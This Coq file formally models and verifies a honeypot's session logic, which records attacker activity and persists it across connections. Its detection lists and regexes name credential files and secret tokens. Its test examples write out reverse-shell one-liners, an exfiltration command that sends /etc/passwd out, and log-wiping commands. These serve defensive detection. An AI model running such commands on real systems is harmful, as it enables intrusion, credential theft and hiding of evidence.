(* ===== verification/Session.v ===== *)
(** plenith/session.py: the state of one engagement, what is observed of the
    attacker, and its persistence across connections.

    The methods of [Session] are functions from the session to the session.  What a
    method reads outside it is a [moment]: the clock and the simulated fleet's recent
    logins.  [observed] is the source's dict; [_fresh_observed] is its template. *)

From S2P Require Import Prelude PyStr Posix Vfs Regex Float Json CounterAI Synthetic.

(** ** Constants *)

Definition _CREDENTIAL_SUFFIXES : list str :=
  ["/.aws/credentials"; "/.aws/config"; "/.ssh/id_rsa"; "/.ssh/id_rsa.pub"; "/.ssh/config";
   "/.git-credentials"; "/.gitconfig"]%py.

Definition _CREDENTIAL_DIR_FRAGMENTS : list str := ["/.aws/"; "/.ssh/"; "/.kube/"; "/.docker/"]%py.

Definition _PERSISTENCE_SUFFIXES : list str :=
  ["/.ssh/authorized_keys"; "/.bashrc"; "/.bash_profile"; "/.profile"; "/etc/passwd";
   "/etc/shadow"; "/etc/sudoers"; "/etc/cron.d/"; "/etc/sudoers.d/"]%py.

Definition _PAYLOAD_DIR_PREFIXES : list str := ["/tmp/"; "/var/tmp/"; "/dev/shm/"]%py.

Definition _CREDENTIAL_SEARCH_NAME_TOKENS : list str :=
  ["id_rsa"; "id_ecdsa"; "id_ed25519"; "authorized_keys"; "known_hosts";
   "*.pem"; "*.key"; "*.pfx"; "*.kdbx"; "*.kdb"; "*.crt"; "*.p12";
   "credentials"; ".aws"; ".kube"; ".docker"; "wallet.dat";
   "*.env"; "*secret*"; "*token*"; "*password*"]%py.

Definition _CREDENTIAL_SEARCH_REGEX_TOKENS : list str :=
  ["AKIA"; "aws_secret"; "aws_access_key"; "BEGIN PRIVATE KEY"; "BEGIN OPENSSH"; "BEGIN RSA";
   "ghp_"; "ghs_"; "github_pat_"; "Bearer "; "password"; "secret_key"; "api_key"; "api-key";
   "client_secret"; "private_key"]%py.

Definition _DNS_EXFIL_CMD_RE : regex :=
  rx_flags IGNORECASE "^\s*(curl|wget|nslookup|dig|host|drill)\b"%py.
Definition _DNS_EXFIL_DOMAIN_RE : regex :=
  rx_flags IGNORECASE
    ("\b(?:ngrok\.io|attacker\.com|burpcollaborator\.net|requestbin\.(?:io|net)|"%py
     ++ "interactsh\.com|oast\.(?:live|fun|me|pro|online|site)|webhook\.site|"%py
     ++ "oastify\.com|canarytokens\.com|dnsbin\.zhack\.ca)\b"%py).
Definition _CMD_SUBST_RE : regex := rx "\$\([^)]+\)|`[^`]+`"%py.

Definition _REV_SHELL_PATTERNS : list regex :=
  [rx "/dev/tcp/\d+\.\d+\.\d+\.\d+/\d+"%py;
   rx "\bnc(?:at)?\s+(?:-[a-zA-Z]*e[a-zA-Z]*|--exec)\b"%py;
   rx_flags IGNORECASE "socket\([^)]*\).*subprocess|subprocess[^.]*socket"%py;
   rx_flags IGNORECASE "mkfifo\s+\S+.*\|\s*(?:nc|ncat|telnet)\s+"%py;
   rx "\bbash\s+-[a-zA-Z]*i[a-zA-Z]*\s+\S*[<>]&\d+\s+\S*[<>]&\d+"%py;
   rx_flags IGNORECASE "\bperl\s+-e.*socket"%py;
   rx_flags IGNORECASE "\bpython3?\s+-c.*socket.*connect"%py;
   rx_flags IGNORECASE "\bphp\s+-r.*fsockopen"%py].

Definition _DECOY_HOSTS : list str :=
  ["db-prod-01"; "db-prod"; "db-prod-02"; "billing-db"; "payments-db";
   "api-prod-03"; "api-prod"; "api-prod-01";
   "bastion-prod"; "k8s-master-01"; "k8s-master"; "k8s-worker-01";
   "vault-prod"; "auth-prod"; "monitoring-prod"]%py.

Definition _LATERAL_CMD_RE : regex :=
  rx_flags IGNORECASE "^\s*(ssh|scp|rsync|sftp|psql\s+-h)\s+"%py.

Definition _LOG_TAMPER_PATTERNS : list regex :=
  [rx "^\s*history\s+-c\b"%py;
   rx "^\s*unset\s+HISTFILE\b"%py;
   rx "\bexport\s+HISTFILE=/dev/null\b"%py;
   rx "^\s*rm\s+(?:-[a-zA-Z]+\s+)*(/var/log/|/var/log\S+|~/\.bash_history|/home/\S+/\.bash_history)"%py;
   rx "^\s*shred\s+.*(/var/log/|\.bash_history)"%py;
   rx "^\s*(?:echo\s+.*|cat\s+/dev/null)?\s*>\s*(/var/log/\S+|~/\.bash_history|/home/\S+/\.bash_history)\s*$"%py;
   rx "^\s*truncate\s+-s\s*0\s+(/var/log/|\.bash_history)"%py].

Definition _SUDO_ELEVATION_RE : regex := rx "^\s*sudo\s+(-i|-s|bash|zsh|sh|su(?:\s|$))"%py.

(** [re.escape]. *)
Definition re_escape (s : str) : str :=
  flat_map (λ c, if existsb (N.eqb c) "()[]{}?*+-|^$\\.&~# \t\n\r\x0b\x0c"%py
                 then [BACKSLASH; c] else [c]) s.
Definition host_re (h : str) : regex := rx ("\b"%py ++ re_escape h ++ "\b"%py).

(** ** Observations *)

Definition _fresh_observed : gmap str pyval :=
  list_to_map
    [("ran_sudo", VBool false); ("services_probed", VSet ∅); ("attempted_lateral", VBool false);
     ("found_crown_jewel", VBool false); ("isolated", VBool false);
     ("planted_sudo_cve", VBool false); ("spawned_mysql", VBool false);
     ("credential_files_read", VSet ∅); ("honeytoken_modifications", VSet ∅);
     ("honeytoken_deletions", VSet ∅); ("payload_drops", VSet ∅);
     ("ssh_persistence_attempt", VBool false); ("bash_history_inspected", VBool false);
     ("credential_search_attempted", VBool false); ("credential_search_terms", VSet ∅);
     ("reverse_shell_attempted", VBool false); ("reverse_shell_command", VStr []);
     ("dns_exfil_attempted", VBool false); ("dns_exfil_commands", VSet ∅);
     ("lateral_to_decoy", VBool false); ("decoy_targets", VSet ∅);
     ("log_tampering", VBool false); ("tampering_commands", VSet ∅);
     ("attempted_sudo_elevation", VBool false);
     ("decoys_planted", VSet ∅); ("decoys_swallowed", VSet ∅);
     ("alerted_ssh_persistence", VBool false); ("alerted_honeytoken_tamper", VBool false);
     ("alerted_credential_exfil", VBool false); ("alerted_payload_staging", VBool false);
     ("alerted_credential_search", VBool false); ("alerted_reverse_shell", VBool false);
     ("alerted_dns_exfil", VBool false); ("alerted_lateral_decoy", VBool false);
     ("alerted_log_tampering", VBool false); ("alerted_decoy_swallowed", VBool false);
     ("attacker_likely_llm", VBool false); ("attacker_llm_confidence", VFloat f0);
     ("attacker_llm_signals", VDict []); ("counter_ai_trap_armed", VBool false);
     ("attacker_llm_proven_via_trap", VBool false);
     ("alerted_attacker_llm_detected", VBool false);
     ("alerted_attacker_llm_proven", VBool false)]%py.

(** [bool(obs.get(k))], and the set held under a key of the template. *)
Definition obs_true (k : str) (obs : gmap str pyval) : bool :=
  match obs !! k with Some v => truthy v | None => false end.
Definition obs_set (k : str) (obs : gmap str pyval) : gset str :=
  match obs !! k with Some (VSet s) => s | _ => ∅ end.
Definition obs_str (k : str) (obs : gmap str pyval) : str :=
  match obs !! k with Some (VStr s) => s | _ => [] end.

(** [obs[k] = True], [obs[k].add(x)] and [obs[k].update(xs)]. *)
Definition mark (k : str) (obs : gmap str pyval) : gmap str pyval := <[k := VBool true]> obs.
Definition add_all (k : str) (xs : gset str) (obs : gmap str pyval) : gmap str pyval :=
  <[k := VSet (xs ∪ obs_set k obs)]> obs.
Definition add_one (k x : str) (obs : gmap str pyval) : gmap str pyval := add_all k {[x]} obs.

(** The strings of a JSON list ([_serialize_observed] writes no other lists under a
    set's key). *)
Definition strings_of (l : list pyval) : list str :=
  omap (λ v, match v with VStr s => Some s | _ => None end) l.

Definition revive (template v : pyval) : pyval :=
  match template, v with
  | VSet _, VList l => VSet (list_to_set (strings_of l))
  | _, _ => v
  end.

Definition _deserialize_observed (persisted : gmap str pyval) : gmap str pyval :=
  merge (λ t p, match t, p with
                | Some t, Some v => Some (revive t v)
                | Some t, None => Some t
                | None, _ => None
                end) _fresh_observed persisted.

Definition freeze (v : pyval) : pyval :=
  match v with VSet s => VList (map VStr (sorted_set s)) | _ => v end.
Definition _serialize_observed (obs : gmap str pyval) : gmap str pyval := freeze <$> obs.

(** ** The session *)

(** What the simulated fleet and the clock show at one moment. *)
Record moment := mk_moment { now : flt; recent_logins : list login }.

(** The renderers registered with the filesystem. *)
Inductive renderer :=
| RAuthLog
| RTrap (clean kind : str).

(** The decoy bodies of an enabled content rotator. *)
Record artifacts := mk_artifacts { sudoers_compat : str; mysql_my_cnf : str }.

Record command := mk_command { c_ts : flt; c_cmd : str; c_source : str; c_preview : str }.

Record Session := mk_session {
  sid : str;
  claimed_user : str;
  source_ip : str;
  persona : Persona;
  started_at : flt;
  fleet : option (list Persona);
  rotator : option artifacts;
  auth_attempts : list pyval;
  engagement_id : str;
  first_seen_at : flt;
  connection_count : Z;
  restored_from_state : bool;
  cwd : str;
  observed : gmap str pyval;
  honeytokens : gmap str str;
  session_vfs : vfs renderer;
  counter_ai : option CounterAIState;
  commands : list command;
  actions_taken : list (gmap str pyval);
}.

(** Assignments to the mutable attributes. *)
Definition update_mutable (s : Session) cwd observed honeytokens session_vfs counter_ai commands
    actions_taken : Session :=
  mk_session (sid s) (claimed_user s) (source_ip s) (persona s) (started_at s) (fleet s)
    (rotator s) (auth_attempts s) (engagement_id s) (first_seen_at s) (connection_count s)
    (restored_from_state s) cwd observed honeytokens session_vfs counter_ai commands actions_taken.

Definition with_cwd c s := update_mutable s c (observed s) (honeytokens s) (session_vfs s)
  (counter_ai s) (commands s) (actions_taken s).
Definition with_observed f s := update_mutable s (cwd s) (f (observed s)) (honeytokens s)
  (session_vfs s) (counter_ai s) (commands s) (actions_taken s).
Definition with_vfs v s := update_mutable s (cwd s) (observed s) (honeytokens s) v
  (counter_ai s) (commands s) (actions_taken s).
Definition with_honeytokens h s := update_mutable s (cwd s) (observed s) h (session_vfs s)
  (counter_ai s) (commands s) (actions_taken s).
Definition with_counter_ai (co : option CounterAIState * gmap str pyval) s :=
  update_mutable s (cwd s) co.2 (honeytokens s) (session_vfs s) co.1 (commands s) (actions_taken s).
Definition with_commands l s := update_mutable s (cwd s) (observed s) (honeytokens s)
  (session_vfs s) (counter_ai s) l (actions_taken s).
Definition with_actions l s := update_mutable s (cwd s) (observed s) (honeytokens s)
  (session_vfs s) (counter_ai s) (commands s) l.

(** [_render_auth_log] and the closure of [plant_decoy]. *)
Definition uid_lookup (personas : list Persona) (user : str) : Z :=
  default 1000%Z
    (assoc_get user (foldl (λ d p, assoc_set (username p) (persona_uid p) d) [] personas)).

Definition render_auth_log (t : moment) (personas : list Persona) (host : str) : str :=
  gen_auth_log_from_logins
    (map (λ e, mk_login (l_user e) (l_ip e) (l_start e) (Some (uid_lookup personas (l_user e))))
         (rev (recent_logins t)))
    host 12.

Definition run_renderer (t : moment) (s : Session) (r : renderer) : option str :=
  match r with
  | RAuthLog => (λ ps, render_auth_log t ps (hostname (persona s))) <$> fleet s
  | RTrap clean kind => Some (maybe_inject_trap (counter_ai s) clean kind)
  end.

(** [session.vfs.read(path, cwd, home)]. *)
Definition vfs_read (t : moment) (path : str) (c h : option str) (s : Session)
    : option str * Session :=
  let '(b, v) := read (run_renderer t s) path c h (session_vfs s) in (b, with_vfs v s).

(** ** Construction *)

Definition _register_dynamic_renderers (s : Session) : Session :=
  match fleet s with
  | None => s
  | Some _ => with_vfs (register_dynamic "/var/log/auth.log"%py RAuthLog None None (session_vfs s)) s
  end.

(** [vfs.write(path, content, cwd=None, home=home, tamper=False)]. *)
Definition seed_file (h : option str) (path content : str) (s : Session) : Session :=
  with_vfs (write path content None h false false (session_vfs s)) s.

Definition _seed_system_files (s : Session) : Session :=
  match fleet s with
  | None => s
  | Some personas =>
      seed_file None "/etc/hostname"%py (hostname (persona s) ++ "\n"%py)
        (_register_dynamic_renderers
           (seed_file None "/etc/group"%py (gen_group_file personas)
              (seed_file None "/etc/passwd"%py (gen_passwd_file personas) s)))
  end.

Definition known_dirs : list str :=
  [".ssh"; ".aws"; ".config"; ".local"; ".cache"; "projects"; "src"; "bin"; "tmp"; "Downloads";
   "Documents"; ".kube"; "terraform"; "runbooks"; "infra-tools"]%py.

Definition seed_listing_entry (s : Session) (name : str) : Session :=
  let h := home (persona s) in
  let full := h ++ "/"%py ++ name in
  if decide (name ∈ known_dirs) then
    if existsb (λ p, startswith p (full ++ "/"%py)) (live_paths (session_vfs s)) then s
    else seed_file (Some h) (full ++ "/.keep"%py) [] s
  else if exists_ full None (Some h) (session_vfs s) then s
  else seed_file (Some h) full [] s.

Definition _seed_persona_listing (s : Session) : Session :=
  foldl seed_listing_entry s (home_listing (persona s)).

(** A record of the state store. *)
Record saved := mk_saved {
  sv_engagement_id : str;
  sv_claimed_user : str;
  sv_source_ip : str;
  sv_first_seen_at : option flt;
  sv_connection_count : option Z;
  sv_cwd : str;
  sv_vfs : vfs_dict;
  sv_observed : gmap str pyval;
  sv_counter_ai : option (gmap str pyval);
}.

Section construction.
Context {G : Type} `{Random G}.

(** [Session(...)] on a connection; [uuid] is the fresh id of a new engagement. *)
Definition connect (id uuid user ip : str) (p : Persona) (start : flt)
    (bot : option (list Persona)) (rot : option artifacts) (prior : option saved) : exc Session :=
  let tokens eid := (honeytoken_files (seeded eid : G) p).1 in
  let token_map l := foldl (λ m pc, <[pc.1 := pc.2]> m) (∅ : gmap str str) l in
  match prior with
  | Some r =>
      let eid := sv_engagement_id r in
      match from_dict (sv_counter_ai r) with
      | Raise e => Raise e
      | Ok ca =>
          Ok (_register_dynamic_renderers
                (mk_session id user ip p start bot rot [] eid
                   (default start (sv_first_seen_at r)) (default 0%Z (sv_connection_count r) + 1)
                   true (sv_cwd r) (_deserialize_observed (sv_observed r)) (token_map (tokens eid))
                   (restore (sv_vfs r)) (Some ca) [] []))
      end
  | None =>
      Ok (_seed_system_files (_seed_persona_listing
            (mk_session id user ip p start bot rot [] uuid start 1 false (home p)
               _fresh_observed (token_map (tokens uuid)) (init_vfs (tokens uuid)) None [] [])))
  end.
End construction.

Definition to_persistent_state (s : Session) : saved :=
  mk_saved (engagement_id s) (claimed_user s) (source_ip s) (Some (first_seen_at s))
    (Some (connection_count s)) (cwd s) (Vfs.to_dict (session_vfs s))
    (_serialize_observed (observed s)) (CounterAI.to_dict <$> counter_ai s).

(** ** Observing the attacker *)

Inductive vfs_event := EvRead | EvWrite | EvTouch | EvUnlink.

Definition on_observed (b : bool) (f : gmap str pyval → gmap str pyval) (s : Session) : Session :=
  if b then with_observed f s else s.

Definition observe_vfs_event (op : vfs_event) (path : str) (s : Session) : Session :=
  let canon := _canon path (Some (cwd s)) (Some (home (persona s))) in
  let was_honeytoken := bool_decide (is_Some (honeytokens s !! canon)) in
  let is_credential :=
    existsb (endswith canon) _CREDENTIAL_SUFFIXES
    || (was_honeytoken && existsb (contains canon) _CREDENTIAL_DIR_FRAGMENTS) in
  let is_persistence := existsb (endswith canon) _PERSISTENCE_SUFFIXES in
  let is_payload_dir := existsb (startswith canon) _PAYLOAD_DIR_PREFIXES in
  match op with
  | EvRead =>
      let s := on_observed (was_honeytoken && is_credential)
                 (add_one "credential_files_read"%py canon) s in
      let s := on_observed (endswith canon "/.bash_history"%py) (mark "bash_history_inspected"%py) s in
      on_observed (bool_decide (canon ∈ obs_set "decoys_planted"%py (observed s)))
        (add_one "decoys_swallowed"%py canon) s
  | EvWrite | EvTouch =>
      let s := on_observed is_persistence (mark "ssh_persistence_attempt"%py) s in
      let s := on_observed was_honeytoken (add_one "honeytoken_modifications"%py canon) s in
      on_observed is_payload_dir (add_one "payload_drops"%py canon) s
  | EvUnlink =>
      on_observed was_honeytoken
        (λ o, add_one "honeytoken_deletions"%py canon (add_one "honeytoken_modifications"%py canon o)) s
  end.

Definition plant_decoy (path content : str) (is_credential : bool) (trap_kind : str)
    (s : Session) : Session :=
  let canon := _canon path None (Some (home (persona s))) in
  let s := with_vfs (write canon content None None false false (session_vfs s)) s in
  let s := with_observed (add_one "decoys_planted"%py canon) s in
  let s := if is_credential then with_honeytokens (<[canon := content]> (honeytokens s)) s else s in
  with_vfs (register_dynamic canon (RTrap content trap_kind) None None (session_vfs s)) s.

Definition token_hit (tokens : list str) (pattern : str) : bool :=
  existsb (λ tok, contains (lower pattern) (lower tok)) tokens.

(** [observe_search_event(name_pattern, regex_pattern)]; [None] and the empty string
    are both falsy. *)
Definition observe_search_event (name_pattern regex_pattern : option str) (s : Session) : Session :=
  let hit tokens p : gset str :=
    match p with
    | Some ((_ :: _) as p) => if token_hit tokens p then {[p]} else ∅
    | _ => ∅
    end in
  let hits := hit _CREDENTIAL_SEARCH_NAME_TOKENS name_pattern
              ∪ hit _CREDENTIAL_SEARCH_REGEX_TOKENS regex_pattern in
  on_observed (bool_decide (hits ≠ ∅))
    (λ o, add_all "credential_search_terms"%py hits (mark "credential_search_attempted"%py o)) s.

Definition is_reverse_shell (c : str) : bool := existsb (λ re, searches re c) _REV_SHELL_PATTERNS.
Definition is_dns_exfil (c : str) : bool :=
  matches _DNS_EXFIL_CMD_RE c && (searches _DNS_EXFIL_DOMAIN_RE c || searches _CMD_SUBST_RE c).
Definition decoy_hosts_in (c : str) : gset str :=
  list_to_set (filter (λ h, searches (host_re h) c = true) _DECOY_HOSTS).
Definition is_log_tampering (c : str) : bool := existsb (λ re, searches re c) _LOG_TAMPER_PATTERNS.

Definition services : list str := ["mysql"; "postgres"; "redis"; "mongo"; "elasticsearch"]%py.

Definition update_observations (t : moment) (cmd : str) (s : Session) : Session :=
  let c := strip cmd in
  let cl := lower c in
  let s := with_counter_ai
             (observe_command (engagement_id s) c (now t) (counter_ai s, observed s)) s in
  let s := on_observed (startswith cl "sudo "%py || bool_decide (cl = "sudo"%py)) (mark "ran_sudo"%py) s in
  let s := foldl (λ s svc, on_observed (contains cl svc) (add_one "services_probed"%py svc) s)
             s services in
  let s := on_observed (any_in ["ssh "; "scp "; "rsync "; "nmap "]%py cl)
             (mark "attempted_lateral"%py) s in
  let s := on_observed (any_in [".aws/credentials"; "id_rsa"; ".ssh/"; "secrets"]%py cl)
             (mark "found_crown_jewel"%py) s in
  let s := on_observed (is_reverse_shell c)
             (λ o, let o := mark "reverse_shell_attempted"%py o in
                   if obs_true "reverse_shell_command"%py o then o
                   else <["reverse_shell_command"%py := VStr (take 200 c)]> o) s in
  let s := on_observed (is_dns_exfil c)
             (λ o, add_one "dns_exfil_commands"%py (take 160 c) (mark "dns_exfil_attempted"%py o)) s in
  let hosts := if matches _LATERAL_CMD_RE c then decoy_hosts_in c else ∅ in
  let s := on_observed (bool_decide (hosts ≠ ∅))
             (λ o, add_all "decoy_targets"%py hosts (mark "lateral_to_decoy"%py o)) s in
  let s := on_observed (is_log_tampering c)
             (λ o, add_one "tampering_commands"%py (take 160 c) (mark "log_tampering"%py o)) s in
  on_observed (matches _SUDO_ELEVATION_RE c) (mark "attempted_sudo_elevation"%py) s.

Definition record_command (t : moment) (cmd response_source response : str) (s : Session) : Session :=
  with_commands (commands s ++ [mk_command (now t) cmd response_source (take 200 response)]) s.

(** ** The patterns compile *)

Example rev_shell_patterns :
  forallb is_reverse_shell
    ["bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"; "nc -e /bin/sh 1.2.3.4 9"; "ncat --exec sh h";
     "python -c 'import subprocess,socket'"; "mkfifo /tmp/f; cat /tmp/f | nc 1.2.3.4 9";
     "bash -i x>&1 y<&2"; "perl -e 'use Socket;'"; "python3 -c 's=socket.socket();s.connect(x)'";
     "php -r '$s=fsockopen(1);'"]%py
  = true.
Proof. vm_compute. reflexivity. Qed.

Example log_tamper_patterns :
  forallb is_log_tampering
    ["history -c"; "unset HISTFILE"; "export HISTFILE=/dev/null"; "rm -rf /var/log/auth.log";
     "shred -u /var/log/syslog"; "> ~/.bash_history"; "cat /dev/null > /var/log/wtmp";
     "truncate -s 0 /var/log/auth.log"]%py
  = true ∧ is_log_tampering "ls /var/log"%py = false.
Proof. vm_compute. auto. Qed.

Example exfil_patterns :
  is_dns_exfil "curl http://x.ngrok.io/a"%py = true ∧
  is_dns_exfil "wget http://h/$(cat /etc/passwd)"%py = true ∧
  is_dns_exfil "curl http://example.com"%py = false ∧
  decoy_hosts_in "ssh db-prod-01"%py = {["db-prod-01"%py; "db-prod"%py]} ∧
  matches _LATERAL_CMD_RE "psql -h db-prod"%py = true ∧
  matches _SUDO_ELEVATION_RE "sudo su"%py = true ∧ matches _SUDO_ELEVATION_RE "sudo sudoku"%py = false.
Proof. split_and!; vm_compute; reflexivity. Qed.

(** ** The shape of [observed]

    Stated for any template of keys with their initial values, and any set of
    transient keys that are recomputed rather than latched. *)

Definition same_kind (t v : pyval) : bool :=
  match t, v with
  | VBool _, VBool _ | VSet _, VSet _ | VStr _, VStr _ | VFloat _, VFloat _ | VDict _, VDict _ => true
  | _, _ => false
  end.

Section shape.
Context (template : gmap str pyval) (transient : str → bool).

(** Every key of the template is present with a value of the template's type. *)
Definition wf_for (o : gmap str pyval) : Prop :=
  ∀ k t, template !! k = Some t → ∃ v, o !! k = Some v ∧ same_kind t v = true.

Definition kind_for (k : str) (v : pyval) : bool :=
  match template !! k with Some t => same_kind t v | None => true end.

Definition latches_for (k : str) : bool := bool_decide (is_Some (template !! k)) && negb (transient k).

(** Nothing observed is forgotten: flags stay set and sets grow. *)
Definition le_for (a b : gmap str pyval) : Prop :=
  ∀ k, latches_for k = true →
    (obs_true k a = true → obs_true k b = true) ∧ obs_set k a ⊆ obs_set k b.

Definition evolves_for (a b : gmap str pyval) : Prop := wf_for a → wf_for b ∧ le_for a b.

#[export] Instance evolves_preorder : PreOrder evolves_for.
Proof.
  split.
  - intros a Ha. split; [done|]. by intros k _.
  - intros a b c Hab Hbc Ha. destruct (Hab Ha) as [Hb Lab]. destruct (Hbc Hb) as [Hc Lbc].
    split; [done|]. intros k Hk. destruct (Lab k Hk), (Lbc k Hk). split; [auto | set_solver].
Qed.

Lemma kind_for_kind k t v : template !! k = Some t → kind_for k v = true → same_kind t v = true.
Proof. unfold kind_for. by intros ->. Qed.

Lemma wf_insert k v o : kind_for k v = true → wf_for o → wf_for (<[k := v]> o).
Proof.
  intros Hk Ho k' t E. destruct (decide (k = k')) as [<-|Hne].
  - exists v. rewrite lookup_insert_eq. split; [done | by eapply kind_for_kind].
  - rewrite lookup_insert_ne by done. by apply Ho.
Qed.

Lemma latches_in k : latches_for k = true → is_Some (template !! k).
Proof. unfold latches_for. rewrite andb_true_iff, bool_decide_eq_true. tauto. Qed.

(** An assignment that respects the type of its key evolves the observations if its
    key does not latch, or if the new value keeps what the old one said. *)
Lemma evolves_insert k v o :
  kind_for k v = true →
  (latches_for k = true → wf_for o → (obs_true k o = true → truthy v = true) ∧
     obs_set k o ⊆ match v with VSet s => s | _ => ∅ end) →
  evolves_for o (<[k := v]> o).
Proof.
  intros Hk H Ho. split; [by apply wf_insert|]. intros k' Hl.
  destruct (decide (k = k')) as [<-|Hne].
  - destruct (H Hl Ho) as [H1 H2]. unfold obs_true at 2, obs_set at 2. rewrite lookup_insert_eq. auto.
  - unfold obs_true, obs_set. by rewrite !lookup_insert_ne.
Qed.

Lemma obs_set_nonset k t o :
  wf_for o → template !! k = Some t → same_kind t (VSet ∅) = false → obs_set k o = ∅.
Proof.
  intros Ho E Hs. destruct (Ho k t E) as (v & Ev & Hv). unfold obs_set. rewrite Ev.
  destruct v; try done. by destruct t.
Qed.

Lemma evolves_mark k o0 o :
  kind_for k (VBool true) = true → evolves_for o0 o → evolves_for o0 (mark k o).
Proof.
  intros Hk H. etransitivity; [exact H|].
  apply evolves_insert; [done|]. intros [t E]%latches_in Ho. split; [done|].
  rewrite (obs_set_nonset k t); [done..|].
  pose proof (kind_for_kind _ _ _ E Hk). by destruct t.
Qed.

Lemma evolves_add k xs o0 o :
  kind_for k (VSet ∅) = true → evolves_for o0 o → evolves_for o0 (add_all k xs o).
Proof.
  intros Hk H. etransitivity; [exact H|]. apply evolves_insert.
  - unfold kind_for in *. destruct (template !! k) as [t|]; [|done]. by destruct t.
  - intros [t E]%latches_in Ho. destruct (Ho k t E) as (v & Ev & Hv).
    pose proof (kind_for_kind _ _ _ E Hk) as Ht.
    destruct t, v; try done. unfold obs_true, obs_set. rewrite Ev. split; [|set_solver].
    cbn. rewrite !negb_true_iff, !bool_decide_eq_false. intros Hs [_ E']%empty_union_L. done.
Qed.

Lemma evolves_other k v o0 o :
  kind_for k v = true → latches_for k = false → evolves_for o0 o → evolves_for o0 (<[k := v]> o).
Proof. intros Hk Hl H. etransitivity; [exact H|]. apply evolves_insert; [done | congruence]. Qed.

Lemma evolves_on b f s0 s :
  (∀ o, evolves_for o (f o)) → evolves_for (observed s0) (observed s) →
  evolves_for (observed s0) (observed (on_observed b f s)).
Proof. intros Hf H. etransitivity; [exact H|]. destruct b; [apply Hf | done]. Qed.
End shape.

(** The keys the detector recomputes at every command; all others latch. *)
Definition recomputed (k : str) : bool :=
  existsb (λ x, bool_decide (k = x))
    ["attacker_likely_llm"; "attacker_llm_confidence"; "attacker_llm_signals"]%py.

Abbreviation obs_wf := (wf_for _fresh_observed).
Abbreviation obs_le := (le_for _fresh_observed recomputed).
Abbreviation evolves := (evolves_for _fresh_observed recomputed).

Lemma fresh_kinds k t : _fresh_observed !! k = Some t → same_kind t t = true.
Proof.
  assert (map_Forall (λ _ t, same_kind t t = true) _fresh_observed) as H.
  { apply (bool_decide_unpack _). vm_compute. exact I. }
  exact (H k t).
Qed.

Lemma fresh_wf : obs_wf _fresh_observed.
Proof. intros k t E. exists t. exact (conj E (fresh_kinds k t E)). Qed.

Create HintDb evolve discriminated.
#[export] Hint Resolve evolves_mark evolves_add evolves_other evolves_on : evolve.
#[export] Hint Extern 0 (evolves_for _ _ ?a ?a) => reflexivity : evolve.
#[export] Hint Extern 0 (kind_for _ _ _ = true) => vm_compute; reflexivity : evolve.
#[export] Hint Extern 0 (latches_for _ _ _ = false) => vm_compute; reflexivity : evolve.
#[export] Hint Extern 3 (evolves_for _ _ _ (add_one _ _ _)) => apply evolves_add : evolve.

Lemma observe_vfs_event_evolves op path s :
  evolves (observed s) (observed (observe_vfs_event op path s)).
Proof. unfold observe_vfs_event. destruct op; cbv zeta; auto 20 with evolve. Qed.

Lemma plant_decoy_evolves path content cred kind s :
  evolves (observed s) (observed (plant_decoy path content cred kind s)).
Proof.
  unfold plant_decoy. cbv zeta.
  destruct cred; cbn [observed with_vfs with_observed with_honeytokens update_mutable];
    auto with evolve.
Qed.

Lemma observe_search_event_evolves n r s :
  evolves (observed s) (observed (observe_search_event n r s)).
Proof. unfold observe_search_event. cbv zeta. auto 20 with evolve. Qed.

Lemma push_gates_evolves armed ca o : evolves o (push_gates armed ca o).
Proof.
  unfold push_gates. cbv zeta.
  change (<["counter_ai_trap_armed"%py := VBool true]>) with (mark "counter_ai_trap_armed"%py).
  change (<["attacker_llm_proven_via_trap"%py := VBool true]>) with (mark "attacker_llm_proven_via_trap"%py).
  destruct (trap_leaked ca).
  all: destruct (_ && _); auto 20 with evolve.
Qed.

Lemma reverse_shell_evolves c o :
  evolves o (let o := mark "reverse_shell_attempted"%py o in
             if obs_true "reverse_shell_command"%py o then o
             else <["reverse_shell_command"%py := VStr c]> o).
Proof.
  cbv zeta. transitivity (mark "reverse_shell_attempted"%py o); [auto with evolve|].
  destruct (obs_true _ _) eqn:E; [done|]. apply evolves_insert; [vm_compute; reflexivity|].
  intros _ Ho. split; [congruence|].
  destruct (Ho "reverse_shell_command"%py (VStr [])) as (v & Ev & Hv); [vm_compute; reflexivity|].
  unfold obs_set. rewrite Ev. by destruct v.
Qed.
#[export] Hint Resolve reverse_shell_evolves : evolve.

Lemma services_evolve cl l s0 s :
  evolves (observed s0) (observed s) →
  evolves (observed s0)
    (observed (foldl (λ s svc, on_observed (contains cl svc) (add_one "services_probed"%py svc) s) s l)).
Proof.
  revert s. induction l as [|svc l IH]; intros s H; [done|].
  cbn [foldl]. apply IH. auto with evolve.
Qed.

Lemma update_observations_evolves t cmd s :
  evolves (observed s) (observed (update_observations t cmd s)).
Proof.
  unfold update_observations. cbv zeta.
  do 7 (apply evolves_on; [intros o; auto 20 with evolve|]).
  apply services_evolve. apply evolves_on; [auto with evolve|].
  apply push_gates_evolves.
Qed.

(** What a command does to the rest of the session. *)
Lemma update_observations_frame t cmd s :
  ∃ o, update_observations t cmd s
       = with_counter_ai
           (Some (step_state (default (init_state (engagement_id s)) (counter_ai s)) (strip cmd) (now t)), o) s.
Proof.
  assert (∀ b f ca o s, ∃ o', on_observed b f (with_counter_ai (ca, o) s) = with_counter_ai (ca, o') s) as H.
  { intros b f ca o s0. destruct b; by eexists. }
  assert (∀ cl l ca o s, ∃ o',
    foldl (λ s svc, on_observed (contains cl svc) (add_one "services_probed"%py svc) s)
      (with_counter_ai (ca, o) s) l = with_counter_ai (ca, o') s) as HF.
  { intros cl l. induction l as [|x l IH]; intros ca o s0; [by eexists|]. cbn [foldl].
    destruct (H (contains cl x) (add_one "services_probed"%py x) ca o s0) as [o' ->]. apply IH. }
  unfold update_observations, observe_command. cbv zeta. cbn [fst snd].
  edestruct H as [o1 ->]. edestruct HF as [o2 ->].
  do 6 (edestruct H as [? ->]). apply H.
Qed.

Lemma update_observations_detector t cmd s :
  counter_ai (update_observations t cmd s)
  = Some (step_state (default (init_state (engagement_id s)) (counter_ai s)) (strip cmd) (now t)).
Proof. by destruct (update_observations_frame t cmd s) as [o ->]. Qed.

(** ** Persistence of the observations *)

Lemma revive_freeze t v : same_kind t v = true → revive t (freeze v) = v.
Proof.
  destruct t, v; try done. intros _. cbn. f_equal. rewrite <- (list_to_set_sorted_set s0) at 2.
  f_equal. unfold strings_of. induction (sorted_set s0) as [|x l IH]; [done|]. cbn. by f_equal.
Qed.

Lemma observed_lookup o k :
  obs_wf o →
  _deserialize_observed (_serialize_observed o) !! k
  = if bool_decide (is_Some (_fresh_observed !! k)) then o !! k else None.
Proof.
